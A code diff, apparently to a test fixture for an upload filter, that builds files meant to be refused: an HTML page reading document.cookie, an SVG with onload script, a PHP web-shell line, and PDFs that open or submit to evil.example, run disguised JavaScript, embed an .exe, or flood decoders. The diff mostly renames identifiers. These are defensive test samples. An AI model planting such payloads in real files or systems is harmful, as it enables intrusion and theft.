@@ -1,9 +1,9 @@
 import { crc32, deflateSync, gzipSync } from 'node:zlib';
 import { badWord } from './bad-word.ts';
-import { bankPdf, picture } from './good-files.ts';
+import { createBankPdf, createPicture } from './good-files.ts';
 import { bomb, packed, pdfWith, streamOf } from './pdf.ts';
 
-/** A file that nobody should be able to leave here. `looks`: what its first bytes are; `why`: what is wrong with it. */
+/** A file that must be refused. `looks`: type by first bytes; `why`: expected refusal. */
 export type BadFile = {
   readonly what: string;
   readonly bytes: Buffer;
@@ -25,23 +25,22 @@ const html = '<!doctype html><html><body><script>alert(document.cookie)</script>
 const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
 const php = '<?php system($_GET["c"]); ?>';
 
-/** A ZIP archive of files that are stored as they are. */
 export function zip(files: Readonly<Record<string, string>>): Buffer {
   const entries: Buffer[] = [];
   const directory: Buffer[] = [];
   let at = 0;
   for (const [name, text] of Object.entries(files)) {
     const size = Buffer.byteLength(text);
-    const facts = Buffer.alloc(26);
-    facts.writeUInt16LE(20, 0);
-    facts.writeUInt32LE(crc32(text), 10);
-    facts.writeUInt32LE(size, 14);
-    facts.writeUInt32LE(size, 18);
-    facts.writeUInt16LE(name.length, 22);
-    const entry = Buffer.concat([Buffer.from('PK\x03\x04'), facts, Buffer.from(name + text)]);
+    const metadata = Buffer.alloc(26);
+    metadata.writeUInt16LE(20, 0);
+    metadata.writeUInt32LE(crc32(text), 10);
+    metadata.writeUInt32LE(size, 14);
+    metadata.writeUInt32LE(size, 18);
+    metadata.writeUInt16LE(name.length, 22);
+    const entry = Buffer.concat([Buffer.from('PK\x03\x04'), metadata, Buffer.from(name + text)]);
     const place = Buffer.alloc(14);
     place.writeUInt32LE(at, 10);
-    directory.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\0'), facts, place, Buffer.from(name)]));
+    directory.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\0'), metadata, place, Buffer.from(name)]));
     entries.push(entry);
     at += entry.length;
   }
@@ -54,7 +53,7 @@ export function zip(files: Readonly<Record<string, string>>): Buffer {
   return Buffer.concat([...entries, ...directory, end]);
 }
 
-const strangers = (): BadFile[] => [
+const otherTypes = (): BadFile[] => [
   bad('a single byte', 'x'),
   bad('a text', 'I swear that I am Marcia Henry.\n'),
   bad('a page', html),
@@ -94,11 +93,11 @@ const strangers = (): BadFile[] => [
 
 async function pictures(): Promise<BadFile[]> {
   const [png, jpeg, webp, gif, tiff] = await Promise.all([
-    picture(60, 40).png().toBuffer(),
-    picture(60, 40).jpeg().toBuffer(),
-    picture(60, 40).webp({ lossless: true }).toBuffer(),
-    picture(60, 40).gif().toBuffer(),
-    picture(60, 40).tiff().toBuffer(),
+    createPicture(60, 40).png().toBuffer(),
+    createPicture(60, 40).jpeg().toBuffer(),
+    createPicture(60, 40).webp({ lossless: true }).toBuffer(),
+    createPicture(60, 40).gif().toBuffer(),
+    createPicture(60, 40).tiff().toBuffer(),
   ]);
   const [PNG, JPEG, WEBP] = ['image/png', 'image/jpeg', 'image/webp'];
   const half = (bytes: Buffer) => bytes.subarray(0, bytes.length / 2);
@@ -126,7 +125,10 @@ async function pictures(): Promise<BadFile[]> {
 }
 
 const flood = (kind: 'png' | 'jpeg') =>
-  picture(10, 10).resize({ width: 10_000, height: 10_000, kernel: 'nearest', fit: 'fill' }).toFormat(kind).toBuffer();
+  createPicture(10, 10)
+    .resize({ width: 10_000, height: 10_000, kernel: 'nearest', fit: 'fill' })
+    .toFormat(kind)
+    .toBuffer();
 
 const script = '/S /JavaScript /JS (app.alert(1))';
 const open = (action: string) => pdfWith('/OpenAction 10 0 R', [action]);
@@ -135,8 +137,7 @@ const asStream = (dictionary: string, data: string) => streamOf(dictionary, Buff
 
 type Bad = (what: string, bytes: Buffer) => BadFile;
 
-/** What opens something, carries something, or lies where a reader finds it and a careless eye does not. */
-const hidden = (active: Bad, unreadable: Bad): BadFile[] => [
+const buildHiddenContent = (active: Bad, unreadable: Bad): BadFile[] => [
   active('an address to open', pdfWith('/OpenAction << /S /URI /URI (https://evil.example) >>')),
   active('an address to open elsewhere', open('<< /Type /Action /S /URI /URI (https://evil.example) >>')),
   active('an address behind a page to open', open('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (x) >> >>')),
@@ -145,7 +146,7 @@ const hidden = (active: Bad, unreadable: Bad): BadFile[] => [
   active('something to open that is nowhere', pdfWith('/OpenAction 77 0 R')),
   active('another file to open', pdfWith('/OpenAction << /S /GoToR /F (//evil.example/x) >>')),
   active('another file behind a link', pdfWith('', ['<< /Subtype /Link /A << /S /GoToR /F (x.pdf) >> >>'])),
-  active('acts of its own', pdfWith('/AA << /WC << /S /URI /URI (x) >> >>')),
+  active('own actions', pdfWith('/AA << /WC << /S /URI /URI (x) >> >>')),
   active('an attached note', pdfWith('', ['<< /Type /Annot /Subtype /FileAttachment /FS 11 0 R >>'])),
   active('a file in a file', pdfWith('', ['<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>'])),
   active('data to import', pdfWith('/OpenAction << /S /ImportData /F (x) >>')),
@@ -167,7 +168,7 @@ const hidden = (active: Bad, unreadable: Bad): BadFile[] => [
         pdfWith('', [streamOf(`<< /Type /ObjStm /N 1 /First 5 ${filter}`, deflateSync(Buffer.alloc(20, 1)))]),
       ),
   ),
-  unreadable('a PDF packed by what stands elsewhere', pdfWith('', [packed('<< >>', '/DecodeParms 11 0 R')])),
+  unreadable('a PDF packed with parameters defined elsewhere', pdfWith('', [packed('<< >>', '/DecodeParms 11 0 R')])),
   unreadable('a PDF with two beginnings', pdfWith('', [packed('<< >>', '/First 300')])),
 ];
 async function documents(): Promise<BadFile[]> {
@@ -183,7 +184,7 @@ async function documents(): Promise<BadFile[]> {
     pdf('a PDF that is a ZIP archive', Buffer.concat([good, zip({ x: 'y' })]), 'mixed'),
     pdf('a PDF with something behind it', Buffer.concat([good, Buffer.from('hidden '.repeat(90))]), 'mixed'),
     pdf('a PDF with much behind it', Buffer.concat([good, Buffer.alloc(9_000, 65)]), 'unreadable'),
-    pdf('a PDF with a password', await bankPdf('secret'), 'pdf_locked'),
+    pdf('a PDF with a password', await createBankPdf('secret'), 'pdf_locked'),
     pdf('a PDF locked in disguise', pdfWith('', [], '/#45ncr#79pt 9 0 R'), 'pdf_locked'),
     active('a script', pdfWith(`/OpenAction << ${script} >>`)),
     active('a script in disguise', pdfWith('/OpenAction << /S /J#61v#61Script /#4aS (x) >>')),
@@ -201,9 +202,9 @@ async function documents(): Promise<BadFile[]> {
     ),
     active('a form that is a program', pdfWith('/AcroForm << /XFA [(x) 10 0 R] >>')),
     active('a form that sends', pdfWith('/OpenAction << /S /SubmitForm /F (http://evil.example) >>')),
-    ...hidden(active, (what, bytes) => pdf(what, bytes, 'unreadable')),
+    ...buildHiddenContent(active, (what, bytes) => pdf(what, bytes, 'unreadable')),
     pdf(
-      'a PDF packed so that nobody looks in',
+      'a PDF with packing that checkers skip',
       pdfWith('', [packed('<< >>', '/DecodeParms << /Predictor 12 >>')]),
       'unreadable',
     ),
@@ -218,10 +219,9 @@ async function documents(): Promise<BadFile[]> {
   ];
 }
 
-/** More than 40 files, each bad in a way of its own. */
 export const badFiles = async (): Promise<readonly BadFile[]> => [
   bad('nothing at all', '', null, 'empty'),
-  ...strangers(),
+  ...otherTypes(),
   ...(await pictures()),
   ...(await documents()),
   ...badWord(),
